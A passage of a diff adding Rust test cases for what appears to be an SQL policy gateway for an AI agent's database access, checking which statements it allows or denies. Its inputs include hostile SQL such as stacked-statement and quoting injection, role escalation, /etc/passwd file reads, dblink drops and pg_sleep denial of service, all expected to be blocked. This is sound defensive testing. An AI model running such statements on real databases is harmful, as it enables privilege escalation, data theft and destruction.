+fn multi_statement_comments_and_quoting() {
+    check(&[
+        (
+            A,
+            "SELECT 1; DELETE FROM orders WHERE id = 1",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "DELETE FROM orders WHERE id = 1; SELECT 1",
+            "statement_class_denied",
+        ),
+        (A, "SELECT 1; SELECT * FROM staff_users", "table_denied"),
+        (
+            A,
+            "SELECT id FROM orders; SELECT email FROM customers",
+            "column_denied",
+        ),
+        (A, "SELECT 1; SET search_path = evil", "setting_pinned"),
+        (A, "BEGIN; SELECT 1; COMMIT", "allow"),
+        (
+            A,
+            "BEGIN READ ONLY; SELECT count(*) FROM orders; COMMIT",
+            "allow",
+        ),
+        (
+            A,
+            "COMMIT; DELETE FROM orders WHERE id = 1",
+            "statement_class_denied",
+        ),
+        (A, "SELECT 1; SELECT 2", "allow"),
+        (A, "SELECT 1;", "allow"),
+        (A, "SELECT 1 -- ; DROP TABLE orders", "allow"),
+        (A, "SELECT 1 -- ; DROP TABLE orders\n; SELECT 2", "allow"),
+        (
+            A,
+            "SELECT 1 --\n; DROP TABLE orders",
+            "statement_class_denied",
+        ),
+        (A, "SELECT 1 /* ; DROP TABLE orders */", "allow"),
+        (
+            A,
+            "SELECT /* ; DELETE FROM orders */ id FROM orders",
+            "allow",
+        ),
+        // Postgres nests block comments.
+        (
+            A,
+            "SELECT 1 /* outer /* inner */ ; DROP TABLE orders; */",
+            "allow",
+        ),
+        (
+            A,
+            "SELECT 1 /* a /* b */ */; DROP TABLE orders",
+            "statement_class_denied",
+        ),
+        (A, "SELECT 1 /* unterminated", "deny"),
+        (A, "SELECT $$; DROP TABLE x; $$", "allow"),
+        (A, "SELECT $tag$ $$ ; DROP TABLE orders; $tag$", "allow"),
+        (
+            A,
+            "SELECT $a$x$a$; DELETE FROM orders WHERE id = 1",
+            "statement_class_denied",
+        ),
+        // `a$b$` is one identifier to Postgres, which then fails on the
+        // unterminated `$b$`: nothing runs. Never allow.
+        (
+            A,
+            "SELECT 1 AS a$b$; DELETE FROM orders WHERE id = 1; SELECT $b$",
+            "deny",
+        ),
+        (A, "SELECT 'it''s'", "allow"),
+        (
+            A,
+            "SELECT 'it''s; DELETE FROM orders WHERE id = 1'",
+            "allow",
+        ),
+        (A, r"SELECT E'\''", "allow"),
+        // E'…': the backslash escapes the quote, all one literal (PG 15).
+        (
+            A,
+            r"SELECT E'\'; DELETE FROM orders WHERE id = 1; --'",
+            "allow",
+        ),
+        (
+            A,
+            r"SELECT e'\x27; DELETE FROM orders WHERE id = 1; --'",
+            "allow",
+        ),
+        // Standard strings: the backslash is a plain character and the
+        // DELETE runs (PG 15 with standard_conforming_strings = on).
+        (
+            A,
+            r"SELECT '\'; DELETE FROM orders WHERE id = 1; --'",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            r"SELECT '\'; SELECT * FROM staff_users; --'",
+            "table_denied",
+        ),
+        (A, "SELECT $$it's$$", "allow"),
+        (
+            A,
+            "SELECT '--', 1; DELETE FROM orders WHERE id = 1",
+            "statement_class_denied",
+        ),
+        (A, "-- ping", "allow"),
+        (A, "", "allow"),
+        (A, ";", "allow"),
+        // Nesting beyond the recursion limit fails closed.
+        (
+            A,
+            &format!("SELECT {}1{}", "(".repeat(200), ")".repeat(200)),
+            "deny",
+        ),
+    ]);
+}
+
+/// Size and shape bounds (SECURITY: "Denial of service from one client").
+#[test]
+fn size_limits() {
+    let or_chain = format!("SELECT 1 WHERE {}true", "1 = 1 OR ".repeat(40_000));
+    let long_select = format!("SELECT {}1", "1 + ".repeat(70_000));
+    let in_list = format!(
+        "SELECT count(*) FROM orders WHERE id IN ({})",
+        (1..=5_000)
+            .map(|i| i.to_string())
+            .collect::<Vec<_>>()
+            .join(", ")
+    );
+    let or_ids = format!(
+        "SELECT count(*) FROM orders WHERE {}",
+        (1..=500)
+            .map(|i| format!("id = {i}"))
+            .collect::<Vec<_>>()
+            .join(" OR ")
+    );
+    check(&[
+        (A, &or_chain, "statement_too_long"),
+        (A, &long_select, "statement_too_long"),
+        (A, &in_list, "allow"),
+        (A, &or_ids, "allow"),
+    ]);
+}
+
+/// Settings that change lexing, identity or security are pinned; harmless
+/// ones drivers send are allowed (SECURITY: "Session state changes lexing").
+#[test]
+fn session_settings() {
+    check(&[
+        (A, "SET search_path = evil, public", "setting_pinned"),
+        (A, "SET search_path TO DEFAULT", "setting_pinned"),
+        (A, "set SEARCH_PATH = public", "setting_pinned"),
+        (A, r#"SET "search_path" = evil"#, "setting_pinned"),
+        // Postgres matches setting names case-insensitively, quoted or not.
+        (A, r#"SET "SEARCH_PATH" = evil"#, "setting_pinned"),
+        (A, "SET LOCAL search_path = evil", "setting_pinned"),
+        (A, "SET SESSION search_path = evil", "setting_pinned"),
+        (A, "RESET search_path", "setting_pinned"),
+        (A, "SET role = 'postgres'", "setting_pinned"),
+        (A, "SET ROLE postgres", "setting_pinned"),
+        (A, "SET LOCAL ROLE postgres", "setting_pinned"),
+        (A, "RESET ROLE", "setting_pinned"),
+        (A, "SET SESSION AUTHORIZATION postgres", "setting_pinned"),
+        (A, "RESET SESSION AUTHORIZATION", "setting_pinned"),
+        (A, "SET client_encoding = 'SJIS'", "setting_pinned"),
+        (A, "SET CLIENT_ENCODING TO 'SJIS'", "setting_pinned"),
+        (A, "SET NAMES 'SJIS'", "setting_pinned"),
+        // SET SCHEMA 'x' is SET search_path TO 'x' (PG 15).
+        (A, "SET SCHEMA 'evil'", "setting_pinned|parse_error"),
+        (A, "SET standard_conforming_strings = off", "setting_pinned"),
+        (
+            A,
+            "SET standard_conforming_strings TO off",
+            "setting_pinned",
+        ),
+        (A, "SET backslash_quote = on", "setting_pinned"),
+        (
+            A,
+            "SET default_transaction_read_only = off",
+            "setting_pinned",
+        ),
+        (
+            A,
+            "SET session_replication_role = replica",
+            "setting_pinned",
+        ),
+        (A, "SET row_security = off", "setting_pinned"),
+        (A, "SET actgate.anything = 1", "setting_pinned"),
+        // SET SESSION CHARACTERISTICS … READ WRITE is
+        // SET default_transaction_read_only = off.
+        (
+            A,
+            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
+            "setting_pinned",
+        ),
+        (
+            A,
+            "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE",
+            "allow",
+        ),
+        (
+            A,
+            "SELECT set_config('search_path', 'evil', false)",
+            "function_not_allowed|setting_pinned|setting_denied",
+        ),
+        (
+            A,
+            "SELECT pg_catalog.set_config('role', 'postgres', false)",
+            "function_not_allowed|setting_pinned|setting_denied",
+        ),
+        (
+            A,
+            "SELECT set_config('standard_conforming_strings', 'off', false)",
+            "function_not_allowed|setting_pinned|setting_denied",
+        ),
+        (
+            A,
+            "SELECT set_config('app.user_id', '42', false)",
+            "function_not_allowed|setting_pinned|setting_denied",
+        ),
+        (
+            A,
+            "SELECT current_setting('app.user_id')",
+            "function_not_allowed",
+        ),
+        (
+            S,
+            "SELECT set_config('client_encoding', 'SJIS', false)",
+            "function_not_allowed|setting_pinned|setting_denied",
+        ),
+        // The tester may call set_config, but pinned settings stay pinned.
+        (
+            T,
+            "SELECT set_config('search_path', 'evil', false)",
+            "setting_pinned",
+        ),
+        (
+            T,
+            "SELECT set_config('standard_conforming_strings', 'off', false)",
+            "setting_pinned",
+        ),
+        (
+            T,
+            "SELECT set_config('client_encoding', 'SJIS', false)",
+            "setting_pinned",
+        ),
+        (
+            T,
+            "SELECT set_config('role', 'postgres', false)",
+            "setting_pinned",
+        ),
+        (
+            T,
+            "SELECT pg_catalog.set_config('SEARCH_PATH', 'evil', true)",
+            "setting_pinned",
+        ),
+        (T, "SET search_path = evil", "setting_pinned"),
+        (T, "SET app.user_id = '1'", "setting_denied"),
+        // … and a custom setting the agent may not SET it may not set_config.
+        (
+            T,
+            "SELECT set_config('app.user_id', '1', false)",
+            "setting_denied",
+        ),
+        (T, "SELECT current_setting('search_path')", "allow"),
+        (A, "RESET ALL", "setting_pinned|setting_denied"),
+        (A, "DISCARD ALL", "setting_pinned|setting_denied"),
+        (S, "RESET ALL", "setting_pinned|setting_denied"),
+        (T, "RESET ALL", "setting_pinned|setting_denied"),
+        (T, "DISCARD ALL", "setting_pinned|setting_denied"),
+        (A, "SET app.user_id = '1'", "setting_denied"),
+        (A, "SET LOCAL app.user_id = '1'", "setting_denied"),
+        (A, "SET SESSION app.tenant = 'acme'", "setting_denied"),
+        (A, "RESET app.user_id", "setting_denied"),
+        (A, "SHOW app.user_id", "setting_denied"),
+        (A, "SET application_name = 'x'", "allow"),
+        (A, "SET statement_timeout = 1000", "allow"),
+        (A, "SET statement_timeout TO '5s'", "allow"),
+        (A, "SET LOCAL statement_timeout = '1s'", "allow"),
+        (A, "SET TIME ZONE 'UTC'", "allow"),
+        (A, "SET TIMEZONE = 'UTC'", "allow"),
+        (A, "SET timezone TO 'Europe/Berlin'", "allow"),
+        (A, "SET DateStyle = 'ISO, MDY'", "allow"),
+        (A, "SET extra_float_digits = 3", "allow"),
+        (A, "SET client_min_messages = warning", "allow"),
+        (A, "RESET statement_timeout", "allow"),
+        (A, "SHOW search_path", "allow"),
+        (A, "SHOW standard_conforming_strings", "allow"),
+        (A, "SHOW TIME ZONE", "allow"),
+        (A, "SHOW transaction isolation level", "allow"),
+        (A, "SET work_mem = '64MB'", "allow"),
+        (A, "SET log_statement = 'none'", "setting_denied"),
+        (
+            A,
+            "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ",
+            "allow",
+        ),
+    ]);
+}
+
+/// Row locks and LOCK TABLE need lock rights (update implies them).
+#[test]
+fn locks() {
+    check(&[
+        (S, "SELECT * FROM orders FOR UPDATE", "allow"),
+        (
+            S,
+            "SELECT * FROM orders WHERE id = 1 FOR UPDATE NOWAIT",
+            "allow",
+        ),
+        (
+            S,
+            "SELECT * FROM orders WHERE id = 1 FOR UPDATE SKIP LOCKED",
+            "allow",
+        ),
+        (S, "SELECT * FROM orders FOR SHARE", "allow"),
+        // PG accepts FOR KEY SHARE; sqlparser does not: rejected syntax
+        // fails closed with a parse denial.
+        (S, "SELECT * FROM orders FOR KEY SHARE", "parse_error"),
+        (
+            S,
+            "SELECT * FROM orders o WHERE o.id = 1 FOR UPDATE OF o",
+            "allow",
+        ),
+        (
+            A,
+            "SELECT * FROM orders FOR UPDATE",
+            "operation_not_allowed",
+        ),
+        (A, "SELECT * FROM orders FOR SHARE", "operation_not_allowed"),
+        (
+            A,
+            "select * from orders for update",
+            "operation_not_allowed",
+        ),
+        (
+            A,
+            "SELECT * FROM orders FOR KEY SHARE",
+            "operation_not_allowed|parse_error",
+        ),
+        (
+            S,
+            "SELECT * FROM products FOR UPDATE",
+            "operation_not_allowed",
+        ),
+        // Locks every table of the FROM list.
+        (
+            S,
+            "SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id FOR UPDATE",
+            "operation_not_allowed",
+        ),
+        (
+            S,
+            "SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id FOR UPDATE OF o",
+            "allow",
+        ),
+        (
+            S,
+            "SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id FOR UPDATE OF c",
+            "operation_not_allowed",
+        ),
+        (
+            S,
+            "SELECT o.id FROM (orders o JOIN customers c ON c.id = o.customer_id) FOR SHARE",
+            "operation_not_allowed",
+        ),
+        // A locking clause applies to the tables of a sub-SELECT in FROM
+        // (PG 15 takes RowShareLock and marks customers' rows).
+        (
+            S,
+            "SELECT id FROM (SELECT id FROM customers) s WHERE id = 1 FOR UPDATE",
+            "operation_not_allowed",
+        ),
+        (
+            A,
+            "SELECT id FROM (SELECT id FROM orders) s FOR SHARE",
+            "operation_not_allowed",
+        ),
+        (
+            S,
+            "SELECT id FROM (SELECT id FROM customers) s FOR UPDATE OF s",
+            "operation_not_allowed|table_not_allowed",
+        ),
+        (
+            A,
+            "SELECT id FROM (SELECT id FROM orders FOR UPDATE) s",
+            "operation_not_allowed",
+        ),
+        (
+            S,
+            "WITH x AS (SELECT id FROM customers FOR UPDATE) SELECT * FROM x",
+            "operation_not_allowed",
+        ),
+        (
+            A,
+            "SELECT id FROM orders WHERE id IN (SELECT order_id FROM refunds FOR UPDATE)",
+            "operation_not_allowed",
+        ),
+        // Rejected syntax: a clear parse denial.
+        (S, "SELECT * FROM orders FOR NO KEY UPDATE", "parse_error"),
+        (A, "SELECT * FROM orders FOR NO KEY UPDATE", "deny"),
+        (A, "LOCK TABLE orders", "statement_class_denied"),
+        (S, "LOCK TABLE orders", "statement_class_denied"),
+        (
+            S,
+            "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE",
+            "statement_class_denied",
+        ),
+        (A, "LOCK staff_users", "table_denied"),
+        (T, "LOCK TABLE orders IN SHARE MODE", "allow"),
+        (T, "LOCK TABLE orders", "allow"),
+        (T, "LOCK TABLE audit.log", "table_not_allowed"),
+    ]);
+}
+
+/// The remaining statement classes.
+#[test]
+fn other_statement_classes() {
+    check(&[
+        (A, "PREPARE p AS SELECT 1", "statement_class_denied"),
+        (A, "PREPARE p AS SELECT * FROM staff_users", "table_denied"),
+        (T, "PREPARE p AS SELECT * FROM orders", "allow"),
+        (
+            T,
+            "PREPARE p (int) AS SELECT * FROM orders WHERE id = $1",
+            "allow",
+        ),
+        (T, "PREPARE p AS DELETE FROM orders WHERE id = 1", "allow"),
+        (
+            T,
+            "PREPARE p AS SELECT * FROM pg_authid",
+            "credential_catalog",
+        ),
+        (
+            T,
+            "PREPARE p AS SELECT nextval('orders_id_seq')",
+            "function_not_allowed",
+        ),
+        (A, "EXECUTE p", "statement_class_denied"),
+        (T, "EXECUTE p", "unknown_prepared_statement"),
+        (T, "EXECUTE p (1)", "unknown_prepared_statement"),
+        // Postgres runs these in order: the EXECUTE uses the PREPARE.
+        (T, "PREPARE p AS SELECT 1; EXECUTE p", "allow"),
+        (A, "DEALLOCATE p", "statement_class_denied"),
+        (T, "DEALLOCATE p", "allow"),
+        (T, "DEALLOCATE ALL", "allow"),
+        (T, "DEALLOCATE PREPARE p", "allow"),
+        (
+            A,
+            "DECLARE c CURSOR FOR SELECT id FROM orders",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "DECLARE c CURSOR FOR SELECT * FROM staff_users",
+            "table_denied",
+        ),
+        (T, "DECLARE c CURSOR FOR SELECT id FROM orders", "allow"),
+        (T, "FETCH 10 FROM c", "allow"),
+        (T, "CLOSE c", "allow"),
+        (
+            A,
+            "DO $$ BEGIN PERFORM pg_sleep(1); END $$",
+            "parse_error|unsupported_statement",
+        ),
+        (
+            T,
+            "DO $$ BEGIN DELETE FROM orders; END $$",
+            "parse_error|unsupported_statement",
+        ),
+        (
+            T,
+            "DO LANGUAGE plpgsql $$ BEGIN NULL; END $$",
+            "parse_error|unsupported_statement",
+        ),
+        (A, "CALL refresh_stats()", "statement_class_denied"),
+        (T, "CALL refresh_stats()", "statement_class_denied"),
+        (A, "LISTEN orders_changed", "statement_class_denied"),
+        (A, "UNLISTEN *", "statement_class_denied"),
+        (A, "NOTIFY orders_changed, 'x'", "statement_class_denied"),
+        (S, "NOTIFY orders_changed", "statement_class_denied"),
+        (T, "LISTEN orders_changed", "allow"),
+        (T, "NOTIFY orders_changed, 'hello'", "allow"),
+        (T, "UNLISTEN *", "allow"),
+        (A, "VACUUM orders", "statement_class_denied"),
+        (A, "VACUUM FULL", "statement_class_denied"),
+        (A, "ANALYZE orders", "statement_class_denied"),
+        (A, "ANALYZE", "statement_class_denied"),
+        (T, "VACUUM orders", "statement_class_denied"),
+        (T, "ANALYZE orders", "statement_class_denied"),
+        (A, "VACUUM staff_users", "table_denied"),
+        (
+            A,
+            "GRANT SELECT ON orders TO PUBLIC",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "GRANT SELECT ON staff_users TO analytics",
+            "statement_class_denied|table_denied",
+        ),
+        (
+            A,
+            "REVOKE ALL ON orders FROM PUBLIC",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "ALTER ROLE analytics SUPERUSER",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "ALTER USER analytics WITH PASSWORD 'x'",
+            "statement_class_denied",
+        ),
+        (A, "GRANT postgres TO analytics", "statement_class_denied"),
+        (
+            T,
+            "GRANT SELECT ON orders TO PUBLIC",
+            "statement_class_denied",
+        ),
+        (T, "CREATE ROLE evil SUPERUSER", "statement_class_denied"),
+        (
+            T,
+            "CREATE POLICY p ON orders USING (true)",
+            "statement_class_denied",
+        ),
+        (A, "ALTER SYSTEM SET log_statement = 'none'", "deny"),
+        (A, "CREATE TABLE t (id int)", "statement_class_denied"),
+        (A, "DROP TABLE orders", "statement_class_denied"),
+        (A, "DROP TABLE staff_users", "table_denied"),
+        (
+            A,
+            "DROP TABLE IF EXISTS orders, staff_users CASCADE",
+            "table_denied",
+        ),
+        (
+            A,
+            "ALTER TABLE orders ADD COLUMN x int",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "ALTER TABLE staff_users ADD COLUMN x int",
+            "table_denied",
+        ),
+        (
+            A,
+            "CREATE INDEX ON orders (status)",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "CREATE VIEW v AS SELECT * FROM staff_users",
+            "table_denied",
+        ),
+        (
+            A,
+            "CREATE VIEW v AS SELECT id FROM orders",
+            "statement_class_denied",
+        ),
+        (
+            A,
+            "COMMENT ON TABLE orders IS 'x'",
+            "statement_class_denied",
+        ),
+        (A, "CREATE EXTENSION dblink", "statement_class_denied"),
+        (
+            A,
+            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
+            "statement_class_denied",
+        ),
+        (A, "TRUNCATE orders", "statement_class_denied"),
+        (A, "TRUNCATE staff_users", "table_denied"),
+        (S, "TRUNCATE refunds", "statement_class_denied"),
+        (S, "CREATE TABLE t (id int)", "statement_class_denied"),
+        (
+            S,
+            "MERGE INTO refunds r USING orders o ON r.order_id = o.id WHEN NOT MATCHED THEN INSERT (order_id, amount_cents, reason, created_by) VALUES (o.id, 1, 'x', 'kpatel')",
+            "statement_class_denied",
+        ),
+        (T, "CREATE TABLE t (id int)", "allow"),
+        (T, "CREATE TABLE public.t (id int)", "allow"),
+        (T, "CREATE TABLE audit.t (id int)", "table_not_allowed"),
+        (T, "CREATE TABLE pg_catalog.t (id int)", "catalog_write"),
+        (T, "DROP TABLE orders", "allow"),
+        (T, "DROP TABLE pg_catalog.pg_class", "catalog_write"),
+        (T, "DROP TABLE audit.log", "table_not_allowed"),
+        (T, "ALTER TABLE orders ADD COLUMN x int", "allow"),
+        (
+            T,
+            "ALTER TABLE orders ADD COLUMN x int DEFAULT nextval('s')",
+            "function_not_allowed",
+        ),
+        (T, "TRUNCATE orders", "allow"),
+        (T, "TRUNCATE audit.log", "table_not_allowed"),
+        (T, "CREATE INDEX ON orders (status)", "allow"),
+        (T, "CREATE VIEW v AS SELECT * FROM orders", "allow"),
+        (
+            T,
+            "CREATE VIEW v AS SELECT * FROM pg_authid",
+            "credential_catalog",
+        ),
+        // DDL on objects outside the schemas the agent has ddl rights in.
+        (T, "DROP SCHEMA audit CASCADE", "deny"),
+        (T, "DROP VIEW audit.v", "table_not_allowed"),
+        (T, "CREATE SCHEMA evil", "deny"),
+        (A, "BEGIN", "allow"),
+        (
+            A,
+            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY",
+            "allow",
+        ),
+        (A, "SAVEPOINT a", "allow"),
+        (A, "RELEASE SAVEPOINT a", "allow"),
+        (A, "ROLLBACK TO SAVEPOINT a", "allow"),
+        (A, "COMMIT", "allow"),
+        (A, "ROLLBACK", "allow"),
+        (A, "END", "allow"),
+        (A, "PREPARE TRANSACTION 'x'", "deny"),
+    ]);
+}
+
+/// Only an allow-list of functions can work (SECURITY: "Read-only" that
+/// writes).
+#[test]
+fn functions_not_allowed() {
+    check(&[
+        (A, "SELECT pg_sleep(1)", "function_not_allowed"),
+        (
+            A,
+            "SELECT pg_terminate_backend(1234)",
+            "function_not_allowed",
+        ),
+        (A, "SELECT pg_cancel_backend(1234)", "function_not_allowed"),
+        (
+            A,
+            "SELECT set_config('statement_timeout', '0', false)",
+            "function_not_allowed|setting_pinned|setting_denied",
+        ),
+        (
+            A,
+            "SELECT current_setting('data_directory')",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT query_to_xml('SELECT * FROM staff_users', true, false, '')",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT table_to_xml('staff_users', true, false, '')",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT dblink_exec('dbname=shop', 'DROP TABLE orders')",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT dblink_connect('x', 'dbname=shop')",
+            "function_not_allowed",
+        ),
+        (A, "SELECT lo_import('/etc/passwd')", "function_not_allowed"),
+        (
+            A,
+            "SELECT lo_export(1234, '/tmp/x')",
+            "function_not_allowed",
+        ),
+        (A, "SELECT lo_get(1234)", "function_not_allowed"),
+        (A, "SELECT nextval('orders_id_seq')", "function_not_allowed"),
+        (
+            A,
+            "SELECT setval('orders_id_seq', 1)",
+            "function_not_allowed",
+        ),
+        (A, "SELECT currval('orders_id_seq')", "function_not_allowed"),
+        (A, "SELECT pg_notify('ch', 'x')", "function_not_allowed"),
+        (
+            A,
+            "SELECT pg_read_binary_file('/etc/passwd')",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT pg_read_file('/etc/passwd')",
+            "function_not_allowed",
+        ),
+        (A, "SELECT pg_ls_dir('.')", "function_not_allowed"),
+        (
+            A,
+            "SELECT pg_stat_file('postgresql.conf')",
+            "function_not_allowed",
+        ),
+        (A, "SELECT pg_reload_conf()", "function_not_allowed"),
+        (A, "SELECT pg_advisory_lock(1)", "function_not_allowed"),
+        (A, "SELECT pg_switch_wal()", "function_not_allowed"),
+        (
+            A,
+            "SELECT pg_logical_emit_message(true, 'x', 'y')",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT convert_from(pg_read_binary_file('/etc/passwd'), 'UTF8')",
+            "function_not_allowed",
+        ),
+        // Case and qualification do not launder a name.
+        (A, "SELECT PG_CATALOG.PG_SLEEP(1)", "function_not_allowed"),
+        (A, "SELECT pg_catalog.pg_sleep(1)", "function_not_allowed"),
+        (
+            A,
+            r#"SELECT "pg_catalog"."pg_sleep"(1)"#,
+            "function_not_allowed",
+        ),
+        (A, r#"SELECT "pg_sleep"(1)"#, "function_not_allowed"),
+        (A, "SELECT Pg_Sleep(1)", "function_not_allowed"),
+        (A, "SELECT public.pg_sleep(1)", "function_not_allowed"),
+        (A, "SELECT public.lower('X')", "function_not_allowed"),
+        (T, "SELECT pg_sleep(0.1)", "allow"),
+        (T, "SELECT pg_notify('ch', 'x')", "allow"),
+        (T, "SELECT pg_terminate_backend(1)", "function_not_allowed"),
+        (
+            S,
+            "SELECT lower(email) FROM customers WHERE id = 1",
+            "allow",
+        ),
+        (
+            A,
+            "SELECT pg_catalog.lower('X'), pg_catalog.count(*) FROM orders",
+            "allow",
+        ),
+    ]);
+}
+
+/// A denied function is found wherever it is called.
+#[test]
+fn functions_in_every_position() {
+    check(&[
+        (A, "SELECT pg_sleep(1) FROM orders", "function_not_allowed"),
+        (
+            A,
+            "SELECT id FROM orders WHERE pg_sleep(1) IS NOT NULL",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT id FROM orders ORDER BY pg_sleep(0)",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT 1 FROM orders GROUP BY pg_sleep(1)",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT status FROM orders GROUP BY status HAVING max(pg_sleep(0)::text) IS NULL",
+            "function_not_allowed",
+        ),
+        (A, "SELECT * FROM pg_sleep(1)", "function_not_allowed"),
+        (
+            A,
+            "SELECT id FROM orders o JOIN order_items i ON pg_sleep(0) IS NULL",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT CASE WHEN id = 1 THEN pg_sleep(1) END FROM orders",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT CASE pg_backend_pid() WHEN 1 THEN 1 ELSE pg_sleep(1)::int END",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT coalesce(nullif(lower(upper(pg_sleep(1)::text)), ''), 'x')",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT sum(id) OVER (PARTITION BY pg_sleep(0)) FROM orders",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT sum(id) OVER (ORDER BY pg_sleep(0)::text) FROM orders",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT sum(id) OVER w FROM orders WINDOW w AS (PARTITION BY pg_sleep(0))",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT count(*) FILTER (WHERE pg_sleep(0) IS NULL) FROM orders",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT string_agg(status, ',' ORDER BY pg_sleep(0)::text) FROM orders",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT DISTINCT ON (pg_sleep(0)::text) id FROM orders",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT id FROM orders LIMIT pg_backend_pid() + length(pg_sleep(0)::text)",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT id FROM orders OFFSET nextval('s')",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT x FROM (VALUES (pg_sleep(1))) v(x)",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "VALUES (nextval('orders_id_seq'))",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT 1 UNION SELECT nextval('orders_id_seq')",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "WITH x AS (SELECT nextval('orders_id_seq') AS n) SELECT n FROM x",
+            "function_not_allowed",
+        ),
+        (A, "SELECT ARRAY[pg_sleep(1)]", "function_not_allowed"),
+        (
+            A,
+            "SELECT CAST(pg_sleep(1) AS text)",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT id FROM orders WHERE id IN (1, nextval('s'))",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT id FROM orders WHERE id BETWEEN 1 AND nextval('s')",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT make_interval(days => nextval('s')::int)",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY pg_backend_pid() + nextval('s'))",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT (SELECT (SELECT pg_sleep(1)))",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT EXISTS (SELECT 1 WHERE pg_sleep(1) IS NULL)",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT count(*) FROM orders TABLESAMPLE SYSTEM (pg_backend_pid() + nextval('s'))",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT id FROM orders WHERE status = 'x' AND (id > 1 OR pg_sleep(1) IS NULL)",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT id FROM orders WHERE NOT (pg_sleep(1) IS NOT NULL)",
+            "function_not_allowed",
+        ),
+        (
+            A,
+            "SELECT lower(status COLLATE \"C\") || pg_sleep(1)::text FROM orders",
+            "function_not_allowed",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, set_config('role', 'postgres', false), 'kpatel')",
+            "function_not_allowed|setting_pinned|setting_denied",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'x', 'kpatel') RETURNING pg_sleep(1)",
+            "function_not_allowed",
+        ),
+        (
+            S,
+            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'x', 'kpatel') ON CONFLICT DO NOTHING RETURNING nextval('s')",
+            "function_not_allowed",
+        ),
+        (
+            S,
+            "UPDATE orders SET notes = current_setting('app.user_id') WHERE id = 1",
+            "function_not_allowed",
+        ),
+        (
+            S,
+            "UPDATE orders SET status = 'x' WHERE id = 1 AND pg_sleep(1) IS NOT NULL",
+            "function_not_allowed",
+        ),
+        (
+            S,
+            "UPDATE orders SET status = 'x' FROM generate_series(1, pg_sleep(1)::text::int) g WHERE orders.id = g",
+            "function_not_allowed",
+        ),
+        (
+            S,
+            "SELECT id FROM orders WHERE id = 1 FOR UPDATE OF orders SKIP LOCKED; SELECT lo_import('/etc/passwd')",
+            "function_not_allowed",
+        ),
+        (A, "SET statement_timeout = pg_sleep(1)", "deny"),
+    ]);
+}
+
+/// `*`, `t.*` and whole-row references read every column.
+#[test]
+fn whole_row_and_star() {
+    check(&[
+        (A, "SELECT c FROM customers c", "column_denied"),
+        (A, "SELECT customers FROM customers", "column_denied"),
+        (A, "SELECT row_to_json(c) FROM customers c", "column_denied"),
+        (
+            A,
+            "SELECT to_jsonb(c) - 'email' FROM customers c",
+            "column_denied",
+        ),
+        (A, "SELECT json_agg(c) FROM customers c", "column_denied"),
+        (A, "SELECT c.* FROM customers c", "column_denied"),
+        (A, "SELECT customers.* FROM customers", "column_denied"),
+        (
+            A,
+            "SELECT public.customers.* FROM customers",
+            "column_denied",
+        ),
+        (A, "SELECT (c.*)::text FROM customers c", "column_denied"),
+        (A, "SELECT count(c.*) FROM customers c", "column_denied"),
+        (A, "SELECT count(c) FROM customers c", "column_denied"),
+        (A, "SELECT ROW(c.*) FROM customers c", "column_denied"),
+        (A, "SELECT (c).email FROM customers c", "column_denied"),
+        (A, "SELECT c IS NULL FROM customers c", "column_denied"),
+        (
+            A,
